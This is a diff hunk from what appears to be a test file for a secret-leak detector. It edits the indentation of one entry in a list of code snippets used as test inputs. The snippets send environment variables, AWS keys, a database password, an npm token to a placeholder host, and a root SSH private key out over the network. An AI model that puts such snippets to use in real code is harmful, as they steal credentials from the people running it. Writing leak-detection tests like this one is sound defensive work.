@@ -8,7 +8,7 @@ from hermes_nb.safety.leaks import leaks
 SENDS = [
     "requests.post(url, json=dict(os.environ))",
     'key = os.environ["aws_secret_access_key"]\nrequests.post(url, data=key)',
-    'a = os.getenv("db_password")\nb = base64.b64encode(a)\nhttpx.post(\n    url,\n    content=b,\n)',
+    'a = os.getenv("db_password")\nb = base64.b64encode(a)\nhttpx.post(\n url,\n content=b,\n)',
     "const t = process.env.npm_token\nfetch('https://x.example/?' + t)",
     'found = {\n "a": os.environ["a_token"],\n "b": os.environ["b_secret"],\n}',
     'd = open("/root/.ssh/id_rsa").read()\nsock.sendall(open("/root/.ssh/id_rsa").read())',
